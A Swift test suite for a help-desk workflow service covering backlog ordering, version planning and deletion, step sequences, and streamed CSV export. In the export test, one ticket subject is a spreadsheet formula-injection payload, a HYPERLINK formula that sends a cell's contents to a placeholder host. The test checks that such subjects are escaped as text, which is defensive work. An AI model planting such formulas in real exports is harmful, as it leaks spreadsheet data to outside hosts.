import Foundation
import Messages
import RPC
import RPCTransport
import Storage
import Testing
import TestSupport
import WorkflowCore

@Suite("Workflow: development backlog, advance step, CSV export")
struct BacklogStepsExportTests {
    static let ana = WorkflowHarness.agent("ana")
    static let pm = WorkflowHarness.agent("pm")

    @Test("the backlog is ordered by category rank and effort; versions plan items and delivering one finishes them; promised dates reach the customer", arguments: TestEngines.all)
    func backlogAndVersions(engine: DatabaseEngine) throws {
        let harness = try WorkflowHarness(engine)
        try harness.seedDirectory()
        let items: [(String, CommonV1.Category, Int32)] = [("sug", .sugestaoMelhoria, 2), ("fisc", .exigenciaFiscal, 40), ("prob-big", .problema, 30),
                                                           ("prob-small", .problema, 5), ("nec", .necessidade, 1)]
        for (id, category, effort) in items {
            try harness.deliver(WorkflowHarness.opened(id, category: category), key: id)
            try harness.take(id, as: WorkflowHarness.admin())
            if category == .problema {
                try harness.move(id, to: "diagnostico_tecnico", as: WorkflowHarness.admin())
                try harness.move(id, to: "para_desenvolver", as: WorkflowHarness.admin())
            } else {
                try harness.move(id, to: "analise_produto", as: WorkflowHarness.admin())
                try harness.move(id, to: "para_desenvolver", as: Self.pm)
            }
            var plan = WorkflowV1.SetDevelopmentPlanRequest()
            plan.ticketID = id
            plan.estimatedEffortHours = effort
            if category == .exigenciaFiscal { plan.promisedDeliveryMs = 1_798_761_600_000 }
            #expect(harness.failure(WorkflowV1.Workflow.setDevelopmentPlan, plan, as: Self.ana)?.code == .permissionDenied)
            _ = try harness.call(WorkflowV1.Workflow.setDevelopmentPlan, plan, as: Self.pm)
        }
        let backlog = try harness.call(WorkflowV1.Workflow.listBacklog, WorkflowV1.ListBacklogRequest(), as: Self.pm)
        #expect(backlog.tickets.map(\.ticketID) == ["fisc", "prob-small", "prob-big", "nec", "sug"])
        #expect(try harness.ticket("fisc", as: WorkflowHarness.customer("maria", organization: "org-1")).promisedDeliveryMs == 1_798_761_600_000)

        var version = WorkflowV1.PutVersionRequest()
        version.version = WorkflowV1.Version()
        version.version?.id = "2026.12"
        version.version?.name = "12.1.2412"
        version.version?.targetDateMs = 1_798_000_000_000
        _ = try harness.call(WorkflowV1.Workflow.putVersion, version, as: Self.pm)
        for id in ["fisc", "prob-small"] {
            var plan = WorkflowV1.PlanTicketRequest()
            plan.ticketID = id
            plan.versionID = "2026.12"
            let view = try harness.call(WorkflowV1.Workflow.planTicket, plan, as: Self.pm)
            #expect(view.row?.stage == "em_desenvolvimento" && view.versionName == "12.1.2412")
        }
        let versions = try harness.call(WorkflowV1.Workflow.listVersions, WorkflowV1.ListVersionsRequest(), as: Self.ana)
        #expect(versions.versions.map(\.plannedItems) == [2])
        var deliver = WorkflowV1.DeliverVersionRequest()
        deliver.versionID = "2026.12"
        let delivered = try harness.call(WorkflowV1.Workflow.deliverVersion, deliver, as: Self.pm)
        #expect(Set(delivered.finishedTicketIDs) == ["fisc", "prob-small"])
        let fisc = try harness.ticket("fisc")
        #expect(fisc.row?.stage == "finalizado" && fisc.outcome == "resolvida" && fisc.publicNote.contains("12.1.2412"))
        #expect(harness.failure(WorkflowV1.Workflow.deliverVersion, deliver, as: Self.pm)?.code == .failedPrecondition)
        #expect(try harness.call(WorkflowV1.Workflow.listBacklog, WorkflowV1.ListBacklogRequest(), as: Self.pm).tickets.map(\.ticketID)
                == ["prob-big", "nec", "sug"])
    }

    @Test("a version no ticket is planned into is deleted; one with planned items is refused saying how many and kept; an unknown id is not found; deleting needs product.decide",
          arguments: TestEngines.all)
    func deleteVersion(engine: DatabaseEngine) throws {
        let harness = try WorkflowHarness(engine)
        try harness.seedDirectory()
        for (id, name) in [("v-empty", "12.1.2601"), ("v-busy", "12.1.2602")] {
            var version = WorkflowV1.PutVersionRequest()
            version.version = WorkflowV1.Version()
            version.version?.id = id
            version.version?.name = name
            version.version?.targetDateMs = 1_798_000_000_000
            _ = try harness.call(WorkflowV1.Workflow.putVersion, version, as: Self.pm)
        }
        for id in ["planned-1", "planned-2"] {
            try harness.deliver(WorkflowHarness.opened(id, category: .necessidade), key: id)
            try harness.take(id, as: WorkflowHarness.admin())
            try harness.move(id, to: "analise_produto", as: WorkflowHarness.admin())
            try harness.move(id, to: "para_desenvolver", as: Self.pm)
            var plan = WorkflowV1.PlanTicketRequest()
            plan.ticketID = id
            plan.versionID = "v-busy"
            _ = try harness.call(WorkflowV1.Workflow.planTicket, plan, as: Self.pm)
        }
        func versions() throws -> [String: Int32] {
            var request = WorkflowV1.ListVersionsRequest()
            request.includeDelivered = true
            return Dictionary(uniqueKeysWithValues: try harness.call(WorkflowV1.Workflow.listVersions, request, as: Self.ana).versions
                .map { ($0.id, $0.plannedItems) })
        }
        var delete = WorkflowV1.DeleteVersionRequest()
        delete.versionID = "v-empty"
        #expect(harness.failure(WorkflowV1.Workflow.deleteVersion, delete, as: Self.ana)?.code == .permissionDenied)
        delete.versionID = "v-busy"
        let refused = harness.failure(WorkflowV1.Workflow.deleteVersion, delete, as: Self.pm)
        #expect(refused?.code == .failedPrecondition)
        #expect(refused?.message.contains("2 itens planejados") == true && refused?.message.contains("2 planned items") == true,
                "\(refused?.message ?? "")")
        #expect(try versions() == ["v-empty": 0, "v-busy": 2])
        #expect(try harness.ticket("planned-1").versionName == "12.1.2602")

        delete.versionID = "v-empty"
        let deleted = try harness.call(WorkflowV1.Workflow.deleteVersion, delete, as: Self.pm)
        #expect(deleted.version?.id == "v-empty" && deleted.version?.name == "12.1.2601")
        #expect(try versions() == ["v-busy": 2])
        #expect(harness.failure(WorkflowV1.Workflow.deleteVersion, delete, as: Self.pm)?.code == .notFound)
        delete.versionID = "missing"
        #expect(harness.failure(WorkflowV1.Workflow.deleteVersion, delete, as: WorkflowHarness.admin())?.code == .notFound)
    }

    @Test("the backlog lists product analysis, the backlog and development by stage, version and product, each row with its version, effort and step; step sequences are listed; customers are refused", arguments: TestEngines.all)
    func backlogFiltersAndSequences(engine: DatabaseEngine) throws {
        let harness = try WorkflowHarness(engine)
        try harness.seedDirectory()
        var sequence = WorkflowV1.PutStepSequenceRequest()
        sequence.ticketType = "melhoria"
        var first = WorkflowV1.Step()
        first.name = "Especificação"
        first.groupID = "n2"
        var second = WorkflowV1.Step()
        second.name = "Codificação"
        second.agentID = "ana"
        second.requiredFields = ["branch"]
        sequence.steps = [first, second]
        _ = try harness.call(WorkflowV1.Workflow.putStepSequence, sequence, as: WorkflowHarness.admin())
        // A required field with a comma is refused whole: the stored sequence is unchanged.
        var comma = sequence
        comma.steps[1].requiredFields = ["branch,pr"]
        let refused = harness.failure(WorkflowV1.Workflow.putStepSequence, comma, as: WorkflowHarness.admin())
        #expect(refused?.code == .invalidArgument && refused?.violations.map(\.field) == ["steps[1].required_fields"])

        for (id, product) in [("nec", "ERP"), ("sug", "RH"), ("dev", "ERP")] {
            var opened = WorkflowHarness.opened(id, category: id == "sug" ? .sugestaoMelhoria : .necessidade, product: product)
            if id == "dev" { opened.customFields = ["ticket_type": "melhoria"] }
            try harness.deliver(opened, key: id)
            try harness.take(id, as: WorkflowHarness.admin())
            try harness.move(id, to: "analise_produto", as: WorkflowHarness.admin())
            if id != "sug" { try harness.move(id, to: "para_desenvolver", as: Self.pm) }
        }
        var version = WorkflowV1.PutVersionRequest()
        version.version = WorkflowV1.Version()
        version.version?.id = "v1"
        version.version?.name = "12.1.2501"
        version.version?.targetDateMs = 1_798_000_000_000
        _ = try harness.call(WorkflowV1.Workflow.putVersion, version, as: Self.pm)
        var plan = WorkflowV1.PlanTicketRequest()
        plan.ticketID = "dev"
        plan.versionID = "v1"
        _ = try harness.call(WorkflowV1.Workflow.planTicket, plan, as: Self.pm)

        func backlog(_ stages: [String], version: String = "", product: String = "") throws -> [WorkflowV1.TicketRow] {
            var request = WorkflowV1.ListBacklogRequest()
            request.stages = stages
            request.versionID = version
            request.product = product
            return try harness.call(WorkflowV1.Workflow.listBacklog, request, as: Self.ana).tickets
        }
        #expect(try backlog([]).map(\.ticketID) == ["nec"])
        let all = try backlog(["analise_produto", "para_desenvolver", "em_desenvolvimento"])
        #expect(Set(all.map(\.ticketID)) == ["nec", "sug", "dev"])
        let dev = try #require(all.first { $0.ticketID == "dev" })
        #expect(dev.stage == "em_desenvolvimento" && dev.versionID == "v1" && dev.versionName == "12.1.2501")
        #expect(dev.ticketType == "melhoria" && dev.stepPosition == 0 && dev.stepName == "Especificação" && dev.stepCount == 2)
        #expect(all.first { $0.ticketID == "nec" }?.stepPosition == -1 && all.first { $0.ticketID == "nec" }?.versionName == "")
        #expect(try backlog(["para_desenvolver", "em_desenvolvimento"], version: "v1").map(\.ticketID) == ["dev"])
        #expect(try backlog(["para_desenvolver", "em_desenvolvimento"], version: "-").map(\.ticketID) == ["nec"])
        #expect(try backlog(["analise_produto", "para_desenvolver"], product: "RH").map(\.ticketID) == ["sug"])
        var unknown = WorkflowV1.ListBacklogRequest()
        unknown.stages = ["finalizado"]
        let invalid = harness.failure(WorkflowV1.Workflow.listBacklog, unknown, as: Self.ana)
        #expect(invalid?.code == .invalidArgument && invalid?.violations.map(\.field) == ["stages"])

        let sequences = try harness.call(WorkflowV1.Workflow.listStepSequences, WorkflowV1.ListStepSequencesRequest(), as: Self.ana).sequences
        #expect(sequences.map(\.ticketType) == ["melhoria"])
        #expect(sequences.first?.steps == sequence.steps)
        let maria = WorkflowHarness.customer("maria", organization: "org-1")
        #expect(harness.failure(WorkflowV1.Workflow.listStepSequences, WorkflowV1.ListStepSequencesRequest(), as: maria)?.code == .permissionDenied)
        #expect(harness.failure(WorkflowV1.Workflow.listBacklog, WorkflowV1.ListBacklogRequest(), as: maria)?.code == .permissionDenied)
        #expect(harness.failure(WorkflowV1.Workflow.listVersions, WorkflowV1.ListVersionsRequest(), as: maria)?.code == .permissionDenied)
    }

    @Test("a ticket type's steps: each step's holder is assigned, advancing names the missing required fields", arguments: TestEngines.all)
    func advanceStep(engine: DatabaseEngine) throws {
        let harness = try WorkflowHarness(engine)
        try harness.seedDirectory()
        var sequence = WorkflowV1.PutStepSequenceRequest()
        sequence.ticketType = "implantacao"
        var first = WorkflowV1.Step()
        first.name = "Levantamento"
        first.agentID = "ana"
        first.requiredFields = ["cnpj", "contato_ti"]
        var second = WorkflowV1.Step()
        second.name = "Configuração"
        second.groupID = "n2"
        second.requiredFields = ["ambiente"]
        sequence.steps = [first, second]
        _ = try harness.call(WorkflowV1.Workflow.putStepSequence, sequence, as: WorkflowHarness.admin())
        var opened = WorkflowHarness.opened("imp1")
        opened.customFields = ["ticket_type": "implantacao", "cnpj": "12.345.678/0001-90"]
        try harness.deliver(opened, key: "imp1")
        var view = try harness.ticket("imp1")
        #expect(view.stepName == "Levantamento" && view.row?.holder?.agentID == "ana" && view.fields["cnpj"] == "12.345.678/0001-90")
        var advance = WorkflowV1.AdvanceStepRequest()
        advance.ticketID = "imp1"
        let missing = harness.failure(WorkflowV1.Workflow.advanceStep, advance, as: Self.ana)
        #expect(missing?.code == .failedPrecondition && missing?.violations.map(\.field) == ["fields.contato_ti"])
        var fields = WorkflowV1.SetTicketFieldsRequest()
        fields.ticketID = "imp1"
        fields.fields = ["contato_ti": "Paulo"]
        _ = try harness.call(WorkflowV1.Workflow.setTicketFields, fields, as: Self.ana)
        view = try harness.call(WorkflowV1.Workflow.advanceStep, advance, as: Self.ana)
        #expect(view.stepName == "Configuração" && view.row?.holder?.groupID == "n2" && view.row?.holder?.agentID == "")
        #expect(try harness.history("imp1").filter { $0.kind == "step" }.map(\.newValue) == ["Levantamento", "Configuração"])
    }

    @Test("the queue exports as streamed CSV with no row cap and the same access rules; a subject that a spreadsheet would run as a formula is written as text", arguments: TestEngines.all)
    func export(engine: DatabaseEngine) throws {
        let harness = try WorkflowHarness(engine)
        try harness.seedDirectory()
        for i in 0..<1_250 {
            let subject = switch i {
            case 3: "Vírgula, \"aspas\" e acentuação"
            case 5: "=HYPERLINK(\"http://exemplo.invalid/?x=\"&A1)"
            case 6: "@SUM(1+1)"
            default: "Assunto \(i)"
            }
            var event = WorkflowHarness.opened(String(format: "x%04d", i), subject: subject)
            event.openedAtMs = 1_790_000_000_000 + Int64(i)
            try harness.deliver(event, key: event.ticketID)
        }
        var level = WorkflowV1.SetAccessLevelRequest()
        level.ticketID = "x0007"
        level.accessLevel = 2
        _ = try harness.call(WorkflowV1.Workflow.setAccessLevel, level, as: WorkflowHarness.agent("chefe"))
        func export(as principal: AuthV1.Principal) throws -> [String] {
            let stream = try harness.client.serverStream(WorkflowV1.Workflow.exportQueue, WorkflowV1.ExportQueueRequest(),
                                                        options: CallOptions(timeoutMilliseconds: 30_000, metadata: harness.signer.metadata(for: principal)))
            var data = ""
            var chunks = 0
            while let chunk = try stream.receive() {
                data += chunk.text
                chunks += 1
            }
            // The header rides with the first 1,000 rows, the other 250 follow.
            #expect(chunks >= 2, "streamed in pieces")
            return data.components(separatedBy: "\r\n").filter { !$0.isEmpty }
        }
        let all = try export(as: WorkflowHarness.admin())
        #expect(all.count == 1_251)
        #expect(all[0].hasPrefix("code,subject,organization"))
        #expect(all[4].contains("\"Vírgula, \"\"aspas\"\" e acentuação\""))
        // A subject a spreadsheet would run as a formula arrives as text.
        #expect(all[6].contains(",\"'=HYPERLINK(\"\"http://exemplo.invalid/?x=\"\"&A1)\","), "\(all[6])")
        #expect(all[7].contains(",'@SUM(1+1),"), "\(all[7])")
        let bruno = try export(as: WorkflowHarness.agent("bruno"))
        #expect(bruno.count == 1_250 && !bruno.contains { $0.hasPrefix("2026-x0007,") })
        #expect(throws: RPCError.self) {
            _ = try export(as: WorkflowHarness.customer("maria", organization: "org-1"))
        }
        // A filter refused (a stage no flow has) is the call's error before any chunk, not a
        // header alone and then an error (the gateway answered 200 with an empty CSV).
        var unknown = WorkflowV1.ExportQueueRequest()
        var filter = WorkflowV1.TicketFilter()
        filter.stages = ["nova"]
        unknown.filter = filter
        let refused = try harness.client.serverStream(WorkflowV1.Workflow.exportQueue, unknown,
                                                      options: CallOptions(timeoutMilliseconds: 30_000, metadata: harness.signer.metadata(for: WorkflowHarness.admin())))
        do {
            _ = try refused.receive()
            Issue.record("an unknown stage was exported")
        } catch let error as RPCError {
            #expect(error.code == .invalidArgument && error.violations.map(\.field) == ["filter.stages"], "\(error)")
        }
    }
}
